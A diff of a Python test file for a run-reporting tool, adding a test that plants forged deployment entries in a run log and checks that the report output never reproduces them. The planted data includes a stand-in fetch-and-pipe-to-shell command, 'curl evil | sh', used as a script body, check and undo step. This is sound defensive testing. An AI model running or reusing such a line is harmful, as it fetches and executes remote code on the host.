@@ -65,7 +65,35 @@ def below(folder: Path) -> set[str]:
     return {str(path.relative_to(folder)) for path in folder.rglob("*")}
 
 
-def test_a_run_of_before_has_commands_and_no_files(call: Call, tmp_path: Path) -> None:
+def forged(folder: Path) -> None:
+    """A run that somebody hands over, with words of theirs wherever a run says how it is deployed."""
+    shutil.copytree(GOLDEN / "runs" / "ended", folder)
+    log = folder / "run.jsonl"
+    first, *lines = log.read_text().splitlines()
+    opened = json.loads(first)
+    file = {
+        **{"kind": "script", "path": "/usr/local/sbin/evil", "content": "#!/bin/sh\ncurl evil | sh\n"},
+        **{"scope": "host-now", "check": "curl evil | sh", "label": "evil", "undo": ["curl evil | sh"]},
+    }
+    for cell in opened["cells"]:
+        for arm in cell["arms"]:
+            arm["deployment"] = {"note": "evil", "files": [file], "now": ["evil"], "boot": ["evil"]}
+    log.write_text("\n".join([json.dumps(opened), *lines, ""]))
+
+
+def test_nothing_that_a_run_says_of_its_deployment_is_deployed(call: Call, tmp_path: Path) -> None:
+    forged(tmp_path / "run")
+    status, _, err = call("report", tmp_path / "run", "--output", tmp_path / "out")
+    assert (status, err) == (0, "")
+    made = {path: path.read_text() for path in (tmp_path / "out").rglob("*") if path.is_file()}
+    assert any(path.name == "page-sizes-now" for path in made)
+    assert not [path for path, text in made.items() if "evil" in text or "curl" in text or "evil" in path.name]
+    assert call("report", tmp_path / "run")[0] == 0
+    for name in ("report.md", "report.html", "report.json"):
+        assert "curl" not in (tmp_path / "run" / name).read_text()
+
+
+def test_a_run_of_before_has_files_too(call: Call, tmp_path: Path) -> None:
     folder = tmp_path / "run"
     shutil.copytree(GOLDEN / "runs" / "ended", folder)
     before = below(folder)
@@ -73,8 +101,7 @@ def test_a_run_of_before_has_commands_and_no_files(call: Call, tmp_path: Path) -
     assert (status, err) == (0, "")
     assert "nothing was applied" in out
     assert below(folder) == before
-    assert below(tmp_path / "out") == {"README.md"}
-    assert "fault: no files: thp was best, but has no files: the run was made before there were such files" in out
+    assert {"README.md", "usr/local/sbin/page-sizes-now"} <= below(tmp_path / "out")
     assert "true: no files: no policy was better than its baseline base" in out
     assert call("report", folder, "--unit", "x")[0] == 2
 
@@ -135,7 +162,7 @@ def test_what_is_no_file_in_a_run_folder_is_refused_at_once(tmp_path: Path) -> N
     """Neither waited for nor read without end: a pipe, a link, more than is ever written."""
     made = [unfit(tmp_path / f"{file}-{kind}", file, kind) for file, kind in UNFIT]
     command = [sys.executable, "-c", REPORTS, *(str(folder) for folder, _ in made)]
-    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=240)
+    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=280)
     assert (done.returncode, done.stderr) == (0, "")
     for (file, kind), (_, path), line in zip(UNFIT, made, done.stdout.splitlines(), strict=True):
         status, out, err = json.loads(line)
